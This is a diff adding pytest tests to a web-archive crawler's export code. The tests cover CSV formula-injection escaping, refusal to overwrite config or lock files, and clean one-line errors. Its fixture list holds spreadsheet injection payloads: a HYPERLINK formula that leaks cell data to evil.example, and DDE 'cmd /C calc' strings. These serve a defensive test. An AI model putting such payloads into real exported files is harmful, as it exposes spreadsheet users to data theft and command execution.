@@ -7,10 +7,13 @@ import gzip
 import hashlib
 import io
 import json
+import os
+import shutil
 import sqlite3
 import subprocess
 import sys
 from pathlib import Path
+from typing import Any
 
 import pytest
 from warcio.archiveiterator import ArchiveIterator
@@ -193,3 +196,82 @@ def test_warc_export_names_a_damaged_capture(archive, tmp_path: Path) -> None:  
         export(store, "warc", ArchiveFilter(), tmp_path / "archive.warc.gz")
     assert "capture 2 (" in str(info.value)
     assert "raqib verify" in str(info.value)
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "+cmd|' /C calc'!A1",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
+
+
+def test_csv_cells_never_start_a_formula(store: Store, archive, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    ids = [row["id"] for row in store.query("SELECT id FROM articles ORDER BY id")]
+    with store.transaction():
+        for article_id, title in zip(ids, FORMULAS, strict=False):
+            store.db.execute("UPDATE articles SET title = ? WHERE id = ?", [title, article_id])
+        store.db.execute("UPDATE articles SET governorate = '=1+1', text = '-note' "
+                         "WHERE id = ?", [ids[0]])
+    path = tmp_path / "out.csv"
+    export(store, "csv", ArchiveFilter(), path)
+    rows = list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
+    cells = [cell for row in rows for cell in row.values() if cell]
+    assert not [c for c in cells if c[0] in "=+-@\t\r"]
+    titles = {row["title"] for row in rows}
+    assert {"'" + f for f in FORMULAS[: len(ids)]} <= titles
+    assert "'=1+1" in {row["governorate"] for row in rows}
+    assert "'-note" in {row["text"] for row in rows}
+
+
+def test_export_never_overwrites_the_config_or_the_lock_file(raqib, archive, write_config) -> None:  # type: ignore[no-untyped-def]
+    from crawler.lock import lock_path
+
+    lock = lock_path(archive.path)
+    lock.write_text("4242\n", encoding="utf-8")
+    config_before = write_config.read_bytes()
+    for target, word in ((write_config, "configuration"), (lock, "lock")):
+        result = raqib("export", "--format", "jsonl", "--out", str(target))
+        assert result.exit_code == 1, result.output
+        assert word in result.output
+    assert write_config.read_bytes() == config_before
+    assert lock.read_text(encoding="utf-8") == "4242\n"
+
+
+def _cli(config: Path, *args: str, **kwargs: Any) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([sys.executable, "-c", "from crawler.cli import main; main()",
+                           "--config", str(config), *args], text=True, timeout=120,
+                          cwd=Path(__file__).resolve().parents[2], **kwargs)
+
+
+def test_export_to_a_closed_pipe_is_one_line(write_config: Path) -> None:
+    read_end, write_end = os.pipe()
+    os.close(read_end)
+    try:
+        result = _cli(write_config, "export", "--format", "jsonl", stdout=write_end,
+                      stderr=subprocess.PIPE)
+    finally:
+        os.close(write_end)
+    assert result.returncode == 1
+    assert "Traceback" not in result.stderr
+    assert "Exception ignored" not in result.stderr
+    lines = [line for line in result.stderr.splitlines() if line.strip()]
+    assert len(lines) == 1, result.stderr
+    assert "closed" in lines[0]
+
+
+@pytest.mark.skipif(shutil.which("setpriv") is None or os.geteuid() != 0,
+                    reason="needs root and setpriv to run raqib without write access")
+def test_export_into_an_unwritable_folder_is_one_line(write_config: Path, tmp_path: Path) -> None:
+    folder = tmp_path / "locked"
+    folder.mkdir()
+    os.chown(folder, 65534, 65534)
+    folder.chmod(0o755)
+    caps = "-dac_override,-dac_read_search,-fowner,-chown"
+    result = subprocess.run(
+        [str(shutil.which("setpriv")), "--bounding-set", caps, "--inh-caps", caps,
+         sys.executable, "-c", "from crawler.cli import main; main()", "--config",
+         str(write_config), "export", "--format", "csv", "--out", str(folder / "x.csv")],
+        capture_output=True, text=True, timeout=120, cwd=Path(__file__).resolve().parents[2])
+    assert result.returncode == 1
+    assert "Traceback" not in result.stderr
+    lines = [line for line in result.stderr.splitlines() if line.strip()]
+    assert len(lines) == 1, result.stderr
+    assert "cannot write" in lines[0]
+    assert list(folder.iterdir()) == []
